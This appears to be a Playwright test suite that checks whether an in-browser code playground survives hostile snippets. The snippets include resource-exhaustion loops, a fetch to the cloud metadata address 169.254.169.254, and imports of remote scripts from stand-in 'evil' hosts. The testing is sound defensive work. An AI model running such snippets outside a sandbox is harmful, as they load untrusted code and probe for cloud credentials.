import { expect, test, type Page } from '@playwright/test';
import { editorReady, forbidOtherOrigins, openWithCode, playground } from './playground-helpers.ts';

const TITLE = 'Get a token';

interface Hostile {
  name: string;
  code: string;
  /** What the Output panel must say about it. */
  expected: RegExp;
  /** The code is still running 5 s later unless the time limit stops it. */
  longRunning?: boolean;
}

const SNIPPETS: Hostile[] = [
  { name: 'an endless loop', code: 'while (true) {}', expected: /Stopped after 5 s: the code was still running/, longRunning: true },
  { name: 'unbounded recursion', code: 'function down(n: number): number { return down(n + 1) + 1; }\ndown(0);', expected: /RangeError[^:]*: Maximum call stack size exceeded/ },
  { name: 'a promise that never settles', code: 'await new Promise(() => {});', expected: /Stopped after 5 s/, longRunning: true },
  { name: 'a 1 GB allocation that keeps growing', code: 'const hoard: Uint8Array[] = [];\nwhile (true) hoard.push(new Uint8Array(1024 * 1024 * 1024));', expected: /Stopped after|crashed|memory|Array buffer allocation failed|Invalid typed array length/i },
  { name: 'throwing a number', code: 'throw 42;', expected: /42/ },
  { name: 'throwing a plain object', code: "throw { code: 'nope', detail: 'not an Error' };", expected: /nope/ },
  { name: 'an unhandled rejection', code: "Promise.reject(new Error('nobody caught me'));\nexport default 'still returned';", expected: /nobody caught me/ },
  { name: 'fetch to a real-looking Auth0 domain', code: "await fetch('https://acme.us.auth0.com/oauth/token', { method: 'POST' });", expected: /acme\.us\.auth0\.com\. Nothing leaves your browser/ },
  { name: 'fetch to an IP address', code: "await fetch('http://169.254.169.254/latest/meta-data/');", expected: /169\.254\.169\.254/ },
  { name: 'importScripts', code: "importScripts('https://cdn.example/evil.js');", expected: /importScripts/ },
  { name: 'an import other than jose', code: "import axios from 'axios';\nconsole.log(axios);", expected: /Only 'jose' can be imported here/ },
  { name: 'a flood of console output', code: 'for (let i = 0; i < 200_000; i++) console.log(`line ${i}`);', expected: /truncated|not shown|more (lines|messages)/i },
  { name: 'postMessage spam aimed at the page', code: "for (let i = 0; i < 100_000; i++) self.postMessage({ type: 'log', id: 'forged', level: 'log', values: [] });\nconsole.log('spam done');", expected: /postMessage|spam done/ },
  { name: 'eval of a remote import', code: "new Function('return import(\"https://evil.example/x.js\")')();", expected: /\[?playground\]?|not available|blocked/i },
];

/**
 * Switches the site theme the way a reader would and waits for the page to apply it. A main thread
 * that a run had blocked would never handle the change; how fast it is handled is the bench's
 * business (scripts/measure-playground.mjs), not a threshold here.
 */
async function switchThemeTo(page: Page, theme: 'light' | 'dark'): Promise<void> {
  await page.getByRole('combobox', { name: 'Select theme' }).selectOption(theme);
  await expect(page.locator('html')).toHaveAttribute('data-theme', theme, { timeout: 2_000 });
}

for (const snippet of SNIPPETS) {
  test(`a playground survives ${snippet.name}`, async ({ page }) => {
    const strays = forbidOtherOrigins(page);
    await openWithCode(page, 'get-token', snippet.code);
    await editorReady(page, TITLE);
    const region = playground(page, TITLE);
    const output = region.getByRole('log', { name: 'Output' });

    await region.getByRole('button', { name: 'Run' }).click();
    // While it runs (or right after, for the quick ones) the page still takes a reader's input.
    if (snippet.longRunning) await expect(region.getByRole('button', { name: 'Stop' })).toBeEnabled();
    await switchThemeTo(page, 'light');
    await switchThemeTo(page, 'dark');
    if (snippet.longRunning) {
      await expect(region.getByRole('button', { name: 'Stop' }), 'the theme changed while the run was still going').toBeEnabled();
    }
    await expect(output).toContainText(snippet.expected, { timeout: 15_000 });
    await expect(region.getByRole('button', { name: 'Run' })).toBeEnabled({ timeout: 15_000 });

    // The next run works: back to the starter code, which gets a token.
    await region.getByRole('button', { name: 'Reset' }).click();
    await region.getByRole('button', { name: 'Run' }).click();
    await expect(output).toContainText('200 read:clients', { timeout: 15_000 });
    expect(strays).toEqual([]);
  });
}
